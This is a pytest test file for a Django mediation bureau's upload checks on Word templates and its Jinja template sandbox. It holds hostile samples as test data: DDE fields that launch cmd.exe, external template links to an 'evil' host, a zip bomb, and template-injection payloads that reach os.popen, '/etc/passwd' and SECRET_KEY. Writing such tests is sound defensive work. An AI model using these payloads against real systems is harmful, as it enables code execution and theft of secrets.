"""The bureau's own templates: what is accepted, who puts it in force, what is refused and why."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError, transaction
from docx import Document
from jinja2 import TemplateError
from PIL import Image

from cases.choices import TemplateStatus
from cases.models import PaperTemplate
from cases.selectors.paper_facts import PaperFacts
from cases.selectors.template_desk import facts_to_name, template_desk
from cases.services import templates
from cases.services.printing import PdfSupport, checks
from cases.services.printing.sandbox import Environment, NotAllowed, TooLong, UnknownFact
from cases.services.printing.stock import built_in
from cases.services.printing.web import as_web_page
from cases.services.printing.web.look import W
from cases.services.templates import activate_template, offer_template, retire_template
from cases.tests.factories_papers import ALL_PAPERS, PaperTemplateFactory, docx_saying
from mediation.common.models import AuditEvent
from mediation.common.roles import Role
from stations.tests.factories import DistrictFactory, bureau_user

pytestmark = pytest.mark.django_db
GOOD = "协议 {{ case.number }}"


@pytest.fixture(autouse=True)
def no_pdf_for_most(monkeypatch, request):
    """The PDF of each sample is tried where a test is about it."""
    checks.check_template.cache_clear()
    if "with_pdf" not in request.fixturenames:
        monkeypatch.setattr(checks, "pdf_support", lambda: PdfSupport(False))


@pytest.fixture
def with_pdf():
    return True


@pytest.fixture
def district():
    return DistrictFactory()


@pytest.fixture
def author(district):
    return bureau_user(Role.BUREAU_ADMIN, district=district)


@pytest.fixture
def second(district):
    return bureau_user(Role.BUREAU_ADMIN, district=district)


def offer(district, by, content, paper="agreement", note="加抬头"):
    file = SimpleUploadedFile("张三的模板.docx", content)
    return offer_template(district=district, paper=paper, file=file, note=note, by=by)


def repacked(changes, base=None):
    """A good template with parts added or rewritten; None takes a part away."""
    parts = {}
    with zipfile.ZipFile(io.BytesIO(base or docx_saying(GOOD))) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    parts.update(changes)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            if content is not None:
                package.writestr(name, content)
    return out.getvalue()


def body_with(xml):
    """A template whose body holds this piece of Word's own language."""
    base = docx_saying(GOOD, "这里")
    with zipfile.ZipFile(io.BytesIO(base)) as package:
        text = package.read("word/document.xml").decode()
    return repacked({"word/document.xml": text.replace("<w:t>这里</w:t>", xml).encode()}, base)


@pytest.mark.once
def test_every_built_in_template_passes_its_own_check(with_pdf):
    for paper in ALL_PAPERS:
        checks.check_template(built_in(paper))


def test_the_built_in_templates_are_those_of_the_builder(tmp_path):
    from cases.documents import build

    assert build.build(tmp_path) == len(ALL_PAPERS)
    for paper in ALL_PAPERS:
        made = Document(tmp_path / f"{paper}.docx").element.xml
        kept = Document(io.BytesIO(built_in(paper))).element.xml
        assert made == kept, f"{paper}: python -m cases.documents.build"


def test_offered_by_one_and_put_in_force_by_another(district, author, second):
    first = offer(district, author, docx_saying(GOOD))
    activate_template(template=first, by=second)
    later = offer(district, second, docx_saying(GOOD, "改"))
    activate_template(template=later, by=author)
    first.refresh_from_db()
    later.refresh_from_db()
    assert (first.version, first.status) == (1, TemplateStatus.RETIRED)
    assert (later.version, later.status) == (2, TemplateStatus.IN_FORCE)
    verbs = list(AuditEvent.objects.order_by("sequence").values_list("verb", flat=True))
    assert verbs == ["template_offered", "template_activated"] * 2
    assert "张三" not in str(list(AuditEvent.objects.values_list("facts", flat=True)))


def test_nobody_puts_their_own_template_in_force(district, author):
    row = offer(district, author, docx_saying(GOOD))
    with pytest.raises(templates.OwnTemplate):
        activate_template(template=row, by=author)
    row.refresh_from_db()
    assert row.status == TemplateStatus.OFFERED
    with pytest.raises(IntegrityError), transaction.atomic():
        PaperTemplate.objects.filter(pk=row.pk).update(
            status="in_force", activated_by=author, activated_at=row.offered_at
        )


def test_back_to_the_built_in_one_with_a_reason(district, author, second):
    row = offer(district, author, docx_saying(GOOD))
    activate_template(template=row, by=second)
    with pytest.raises(templates.ReasonMissing):
        retire_template(template=row, reason=" ", by=author)
    retire_template(template=row, reason="表头有误", by=author)
    assert not PaperTemplate.objects.in_force().exists()
    with pytest.raises(templates.AlreadyRetired):
        retire_template(template=row, reason="再次", by=author)
    with pytest.raises(templates.NotWaiting):
        activate_template(template=row, by=second)


def test_the_same_file_is_no_new_version(district, author):
    content = docx_saying(GOOD)
    offer(district, author, content)
    with pytest.raises(templates.SameTemplate):
        offer(district, author, content)
    assert PaperTemplate.objects.count() == 1


def test_a_template_never_changes_and_never_goes(district):
    row = PaperTemplateFactory(district=district)
    with pytest.raises(IntegrityError), transaction.atomic():
        PaperTemplate.objects.filter(pk=row.pk).update(content=b"x")
    with pytest.raises(IntegrityError), transaction.atomic():
        PaperTemplate.objects.filter(pk=row.pk).delete()


def test_the_desk_says_what_is_in_force(district):
    row = PaperTemplateFactory(district=district, in_force=True)
    PaperTemplateFactory(district=district, paper="cover")
    desk = {held.paper: held for held in template_desk(district)}
    assert desk["agreement"].own == row
    assert (desk["cover"].own, desk["cover"].waiting) == (None, 1)


# --- what is refused


NOT_SHOWN = {
    "tracked": '</w:r><w:ins w:id="1" w:author="a"><w:r><w:t>y</w:t></w:r></w:ins><w:r>',
    "footnote": '<w:footnoteReference w:id="1"/>',
    "object": "<w:object />",
}
ACTIVE_FIELDS = (
    '<w:instrText xml:space="preserve"> INCLUDETEXT "C:\\secret.txt" </w:instrText>',
    "<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe</w:instrText>",
)
LINK = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
    b'2006/relationships/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
    b"</Relationships>"
)


def linked(part, name="word/_rels/settings.xml.rels"):
    return repacked({name: part})


def with_text_as(change):
    """A template whose text part, still the same XML, is written in another way."""
    base = body_with("<w:instrText>DDEAUTO cmd</w:instrText>")
    with zipfile.ZipFile(io.BytesIO(base)) as package:
        text = package.read("word/document.xml").decode()
    return repacked({"word/document.xml": change(text)}, base)


def as_utf_16(text):
    return text.replace("encoding='UTF-8'", "").replace('encoding="UTF-8"', "").encode("utf-16")


def picture_of(side):
    out = io.BytesIO()
    Image.new("1", (side, side)).save(out, "PNG")
    return out.getvalue()


HIDDEN = {
    "reference": linked(LINK.replace(b"External", b"&#69;xternal")),
    "utf-16": linked(as_utf_16(LINK.decode())),
    "capitals": linked(LINK, "word/_rels/settings.xml.RELS"),
    "single quotes and space": linked(LINK.replace(b'"External"', b"' External '")),
    "field in a comment": body_with("<w:instrText><!-- -->DDEAUTO cmd</w:instrText>"),
    "field in CDATA": body_with("<w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText>"),
    "field by reference": body_with("<w:instrText>&#68;DEAUTO cmd</w:instrText>"),
    "field in utf-16": with_text_as(as_utf_16),
    "field of another prefix": with_text_as(
        lambda text: (
            text.replace("<w:instrText", f'<x:instrText xmlns:x="{W[1:-1]}"')
            .replace("</w:instrText", "</x:instrText")
            .encode()
        )
    ),
    "field in the notes": repacked(
        {"word/footnotes.xml": f'<a xmlns="{W[1:-1]}"><instrText>DDE x</instrText></a>'.encode()}
    ),
    "entities in utf-16": repacked(
        {"word/header1.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")}
    ),
    "a page of the web": repacked({"word/page.html": b"<img src='http://evil/x'>"}),
    "inserted file": repacked({"word/footer9.xml": f'<altChunk xmlns="{W[1:-1]}"/>'.encode()}),
}


@pytest.mark.parametrize("content", HIDDEN.values(), ids=HIDDEN)
def test_what_reaches_out_is_found_however_it_is_written(district, author, content):
    with pytest.raises(checks.TemplateActive):
        offer(district, author, content)
    assert not PaperTemplate.objects.exists()


def test_a_part_that_is_there_twice_is_refused(district, author):
    out = io.BytesIO(docx_saying(GOOD))
    with zipfile.ZipFile(out, "a") as package:
        package.writestr("word/Document.xml", b"<x/>")
    with pytest.raises(checks.NotWord):
        offer(district, author, out.getvalue())


def test_few_bytes_that_are_very_many_pixels_are_refused(district, author):
    content = repacked({"word/media/image1.png": picture_of(7_000)})
    assert len(content) < checks.MAX_BYTES
    with pytest.raises(checks.TemplateTooBig):
        offer(district, author, content)


def test_loops_inside_of_each_other_end_somewhere(district, author):
    """Twenty of them over two parties would write a million times."""
    deep = "{% for a in parties %}" * 4 + "x" + "{% endfor %}" * 4
    with pytest.raises(NotAllowed):
        offer(district, author, docx_saying(deep))
    fine = "{% for a in parties %}" * 3 + "x" + "{% endfor %}" * 3
    assert offer(district, author, docx_saying(fine)).version == 1


@pytest.mark.parametrize(
    "text",
    [
        "{% for a in parties %}" * 3 + "很长" * 300 + "{% endfor %}" * 3,
        "字" * (checks.MAX_LETTERS + 1),
        "{% for a in parties %}{{ a.name }}" + "字" * 20_000 + "{% endfor %}",
    ],
    ids=["many times", "long", "long for two parties"],
)
def test_a_template_of_a_book_is_refused_before_it_is_printed(district, author, text, monkeypatch):
    monkeypatch.setattr(checks, "pdf_support", lambda: PdfSupport(True))
    monkeypatch.setattr(checks, "as_pdf", lambda word: pytest.fail("it was printed"))
    with pytest.raises(TooLong) as refused:
        offer(district, author, docx_saying(GOOD, text))
    assert refused.value.field == "file"


def test_a_cell_is_no_wider_than_a_table_can_be(district):
    table = (
        "</w:t></w:r></w:p><w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc><w:tcPr>"
        '<w:gridSpan w:val="999999999"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl><w:p><w:r><w:t>'
    )
    page = as_web_page(body_with(f"<w:t>{table}</w:t>"))
    assert 'colspan="63"' in page


def bomb():
    return repacked({"word/media/zeros.bmp": b"\0" * (checks.MAX_UNPACKED + 1)})


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        (lambda: b"", checks.NotWord),
        (lambda: b"%PDF-1.4", checks.NotWord),
        (lambda: b"PK\x03\x04 broken", checks.NotWord),
        (lambda: repacked({"word/document.xml": None}), checks.NotWord),
        (lambda: repacked({"[Content_Types].xml": b"<Types/>"}), checks.NotWord),
        (lambda: b"0" * (checks.MAX_BYTES + 1), checks.TemplateTooBig),
        (bomb, checks.TemplateTooBig),
        (lambda: repacked({"word/vbaProject.bin": b"x"}), checks.TemplateActive),
        (lambda: repacked({"word/embeddings/a.xlsx": b"x"}), checks.TemplateActive),
        (lambda: repacked({"word/_rels/settings.xml.rels": LINK}), checks.TemplateActive),
        (lambda: body_with(ACTIVE_FIELDS[0]), checks.TemplateActive),
        (lambda: body_with(ACTIVE_FIELDS[1]), checks.TemplateActive),
        (
            lambda: repacked({"word/header1.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}),
            checks.TemplateActive,
        ),
        (lambda: body_with(NOT_SHOWN["tracked"]), checks.NotShown),
        (lambda: body_with(NOT_SHOWN["footnote"]), checks.NotShown),
        (lambda: body_with(NOT_SHOWN["object"]), checks.NotShown),
        (lambda: docx_saying("{{ case.nonsense }}"), UnknownFact),
        (lambda: docx_saying("{{ party.name }}"), UnknownFact),
        (lambda: docx_saying("{{ parties }}"), NotAllowed),
        (lambda: docx_saying("{% for x in case %}{% endfor %}"), NotAllowed),
        (lambda: docx_saying("{% if case.number %}"), checks.TemplateFails),
        (lambda: docx_saying("{{ case.number"), checks.TemplateFails),
        (lambda: docx_saying("{%p for line in case.summary %}"), checks.TemplateFails),
    ],
)
def test_a_file_that_is_no_usable_template(district, author, content, refusal):
    with pytest.raises(refusal) as refused:
        offer(district, author, content())
    assert refused.value.field == "file"
    assert not PaperTemplate.objects.exists()


# --- the sandbox (S14, R24, G17)


ATTACKS = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ case.__class__ }}",
    "{{ case.__init__.__globals__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__ }}",
    "{{ namespace() }}",
    "{{ range(10**9) }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "{{ case.number.format(case) }}",
    "{{ case.number|attr('__class__') }}",
    "{{ case['number'] }}",
    "{{ 'a' * 10**9 }}",
    "{% set x = 1 %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% macro m() %}{% endmacro %}",
    "{% raw %}{% endraw %}{{ request }}",
    "{{ settings.SECRET_KEY }}",
    "{{ title|safe }}",
    "{{ [].append(1) }}",
    "{{ (lambda: 1)() }}",
    "{% for p in parties recursive %}{{ loop(p) }}{% endfor %}",
    "{% for p in parties if p.name %}{% endfor %}",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_not_even_compiled(attack):
    with pytest.raises((NotAllowed, UnknownFact, TemplateError)):
        Environment().from_string(attack)


@pytest.mark.parametrize("attack", ATTACKS[:6])
def test_an_attack_in_a_template_is_refused(district, author, attack):
    with pytest.raises((NotAllowed, UnknownFact, checks.TemplateFails)):
        offer(district, author, docx_saying(GOOD, attack))
    assert not PaperTemplate.objects.exists()


def test_an_attack_in_the_properties_of_the_file_is_refused(district, author):
    document = Document(io.BytesIO(docx_saying(GOOD)))
    document.core_properties.comments = "{{ ''.__class__ }}"
    out = io.BytesIO()
    document.save(out)
    with pytest.raises(NotAllowed):
        offer(district, author, out.getvalue())


def test_a_value_is_a_value():
    """A fact that looks like a template, a tag or an entity comes out as it is."""
    text = "{{ 7*7 }} {% x %} <w:p/> &amp; \x07"
    out = Environment().from_string("{{ title }}").render(title=text)
    assert "49" not in out
    assert out == ("&#123;&#123; 7*7 &#125;&#125; &#123;% x %&#125; &lt;w:p/&gt; &amp;amp; \u2407")


def test_every_fact_of_the_list_may_be_named():
    """The list that the bureau reads and the check that it meets are one."""
    shown = [fact for fact in facts_to_name() if not fact.is_list and "[" not in fact.path]
    for fact in shown:
        if "…" not in fact.path and not fact.is_question:
            Environment().from_string(f"{{{{ {fact.path} }}}}")
    assert {"case.number", "agreement.copies", "case.is_closed"} <= {fact.path for fact in shown}
    assert len(shown) > 60
    assert PaperFacts().title == ""
